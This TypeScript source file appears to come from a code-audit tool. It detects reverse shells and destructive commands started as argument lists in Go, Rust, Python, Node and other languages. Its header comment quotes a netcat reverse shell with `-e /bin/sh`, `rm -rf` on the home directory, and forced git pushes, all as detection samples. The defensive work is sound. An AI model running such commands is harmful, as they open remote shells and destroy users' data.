// Round 28: a command written as a program's argument list (`exec.Command("nc", host, "4444", "-e", "/bin/sh")`,
// `Command::new("kubectl").args(["delete", ns])`, `system('git', 'push', 'origin', '--force', '--all')`,
// `subprocess.run(["rm", "-rf", os.path.expanduser("~")])`) is the same act as the shell line, but the shell rules
// read `nc … -e sh` or `git push … --force --all` with spaces between the words, never quotes and commas. Here
// each call's string arguments are joined with spaces (a name passed between them stands as `$name`) and the shell
// shapes of destruction and of a reverse shell are read on that line.
import { words } from "../hints.js";
import type { AuditLine, AuditText, TextHit } from "../rule-types.js";
import { memoByText } from "../text-memo.js";
import { splitExec, splitGlobal } from "./alternatives.js";
import { DESTRUCTIVE_CODE } from "./destructive.js";
import { destructiveMass } from "./destructive-code.js";
import { DISK_WIPE_ALL } from "./destructive-runtimes.js";
import { DESTRUCTIVE } from "./execution.js";
import { REVERSE_SHELL } from "./reverse-shell.js";

/** Where a program starts another with an argument list, in Go, Rust, Python, Node, Ruby, PHP, C#, Java, PowerShell. */
const CALL =
  /\bexec\.Command(?:Context)?\s*\(|\bCommand::new\s*\(|\bsubprocess\.(?:run|call|check_call|check_output|Popen)\s*\(|\bPopen\s*\(|\bos\.(?:exec|spawn)[lv]p?e?\s*\(|\b(?:spawn|spawnSync|execFile|execFileSync|execa|execaSync)\s*\(|\b(?:system|Kernel\.system|Kernel\.spawn|IO\.popen|Open3\.\w{4,14})\s*\(|\bsystem\s+["']|\bProcess\.Start\s*\(|\bProcessStartInfo\s*\(|\bProcessBuilder\s*\(|\.exec\s*\(\s*new\s+String\s*\[\s*\]\s*\{|\bproc_open\s*\(\s*\[|\bStart-Process\b/g;

const CALL_SPLIT = splitGlobal(CALL);

export const ARGV_HINTS = words(
  "exec.command|command::new|subprocess|popen|os.exec|os.spawn|spawn|execfile|execa|system(|system '|system \"|open3|process.start|processstartinfo|processbuilder|new string[]|proc_open|start-process",
);

/** Rust's builder goes on past the call: `.args([…])`, `.arg(…)`. */
const CHAINED = /^\s*\.\s*args?\s*\(/;
/** A name's first character (`$` too: PHP and PowerShell), and the rest (`.` for `os.path`). */
const isNameStart = (c: number): boolean =>
  (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || c === 95 || c === 36;
const isNamePart = (c: number): boolean => isNameStart(c) || (c >= 48 && c <= 57) || c === 46;
/** At most this many calls are read in a file (a long line of calls stays linear and bounded). */
const MAX_CALLS = 2000;

/** The farthest a call's arguments are read: characters, and lines. */
const REACH = 600;
const MAX_LINES = 5;

/**
 * The call's arguments from `from` on, joined with spaces: string literals as their text, a bare name between
 * commas or brackets as `$name`, everything else skipped. Stops at the statement's end (a `;` or a line end
 * outside brackets, unless the next line goes on with `.arg(`), at REACH characters or MAX_LINES lines.
 */
function joinedArguments(t: string, from: number, open: boolean): { text: string; end: number } {
  const parts: string[] = [];
  let depth = open ? 1 : 0;
  let lines = 0;
  let i = from;
  const stop = Math.min(t.length, from + REACH);
  let prevSep = true;
  while (i < stop) {
    const c = t.charCodeAt(i);
    if (c === 34 || c === 39 || c === 96) {
      // A string literal ("…", '…', `…`) on one line, backslash escapes kept as their character.
      let j = i + 1;
      let s = "";
      while (j < stop) {
        const d = t.charCodeAt(j);
        if (d === c || d === 10) break;
        if (d === 92 && j + 1 < stop) {
          s += t[j + 1];
          j += 2;
          continue;
        }
        s += t[j];
        j++;
      }
      parts.push(s);
      i = j + 1;
      prevSep = false;
      continue;
    }
    if (c === 40 || c === 91 || c === 123) {
      depth++;
      prevSep = true;
    } else if (c === 41 || c === 93 || c === 125) {
      depth--;
      prevSep = false;
      // The call closed: Rust goes on with `.args([…])` / `.arg(…)`; anything else ends it.
      if (depth <= 0 && !CHAINED.test(t.slice(i + 1, i + 40))) {
        i++;
        break;
      }
    } else if (c === 44) prevSep = true;
    else if (c === 59 && depth <= 0) break;
    else if (c === 10) {
      lines++;
      if (lines >= MAX_LINES) break;
      if (depth <= 0 && !CHAINED.test(t.slice(i + 1, i + 40))) break;
    } else if (isNameStart(c)) {
      let j = i + 1;
      while (j < stop && j - i < 60 && isNamePart(t.charCodeAt(j))) j++;
      if (prevSep && (depth > 0 || !open)) {
        let k = j;
        while (k < stop && (t.charCodeAt(k) === 32 || t.charCodeAt(k) === 9)) k++;
        const n = t.charCodeAt(k);
        if (k >= stop || n === 44 || n === 41 || n === 93 || n === 125 || n === 10)
          parts.push(`$${t.slice(t.charCodeAt(i) === 36 ? i + 1 : i, j)}`);
      }
      i = j;
      prevSep = false;
      continue;
    } else if (c !== 32 && c !== 9 && c !== 13) prevSep = false;
    i++;
  }
  return { text: parts.join(" ").replace(/[\r\n]+/g, " "), end: i };
}

interface ArgvLine {
  /** Offset of the call in the file. */
  readonly index: number;
  readonly length: number;
  /** The command as a shell line. */
  readonly command: string;
}

const callsOf = memoByText((text: string): readonly ArgvLine[] => {
  const out: ArgvLine[] = [];
  // CALL's global scan, each alternative tried where its words are (the same matches).
  const next = splitExec(CALL_SPLIT, text);
  for (let m = next(0); m; ) {
    const { text: command, end } = joinedArguments(text, m.index + m[0].length, /[({]$/.test(m[0]));
    if (command.includes(" ")) out.push({ index: m.index, length: Math.max(1, end - m.index), command });
    if (out.length >= MAX_CALLS) break;
    // Calls do not overlap: a long line of calls is read once (linear).
    m = next(Math.max(m.index + m[0].length, end));
  }
  return out;
});

/** The file's calls, when a line holds a hint word. */
function calls(file: AuditText, lines: readonly AuditLine[]): readonly ArgvLine[] {
  return lines.length === 0 ? [] : callsOf(file, file.text);
}

function matches(re: RegExp, s: string): boolean {
  re.lastIndex = 0;
  const hit = re.test(s);
  re.lastIndex = 0;
  return hit;
}

/** A reverse shell started as an argument list (`exec.Command("nc", host, port, "-e", "/bin/sh")`). */
export function reverseShellArgv(file: AuditText, lines: readonly AuditLine[]): TextHit[] {
  return calls(file, lines)
    .filter((c) => matches(REVERSE_SHELL, c.command))
    .map((c) => ({ index: c.index, length: c.length }));
}

/**
 * A destruction started as an argument list: the shell shapes of destructive-command and disk-wipe on the joined
 * line, or every namespace, database or repository of a list fed to its delete (destructive-mass) with the
 * program's loop around the calls.
 */
export function destructiveArgv(file: AuditText, lines: readonly AuditLine[]): TextHit[] {
  const cs = calls(file, lines);
  if (cs.length === 0) return [];
  const one = cs.filter(
    (c) =>
      matches(DESTRUCTIVE, c.command) ||
      matches(DESTRUCTIVE_CODE, c.command) ||
      matches(DISK_WIPE_ALL, c.command),
  );
  if (one.length > 0) return one.map((c) => ({ index: c.index, length: c.length }));
  // The file's text with each call's joined line written over the call: the loop and the list stay where they are.
  let view = "";
  let at = 0;
  const placed: { readonly start: number; readonly call: ArgvLine }[] = [];
  for (const c of cs) {
    if (c.index < at) continue;
    view += file.text.slice(at, c.index);
    placed.push({ start: view.length, call: c });
    view += c.command;
    at = c.index + c.length;
  }
  view += file.text.slice(at);
  // One entry per line of the view, however many calls it holds.
  const viewLines: AuditLine[] = [];
  for (const { start } of placed) {
    const ls = view.lastIndexOf("\n", start) + 1;
    if (viewLines.length > 0 && viewLines[viewLines.length - 1]!.index === ls) continue;
    const le = view.indexOf("\n", start);
    viewLines.push({ index: ls, text: view.slice(ls, le < 0 ? view.length : le) });
  }
  const hits = destructiveMass({ ...file, text: view }, viewLines);
  if (hits.length === 0) return [];
  // Back to the file: the call on the line the hit is on.
  const hit = hits[0]!;
  const call = placed.find((p) => p.start >= hit.index)?.call ?? cs[0]!;
  return [{ index: call.index, length: call.length }];
}
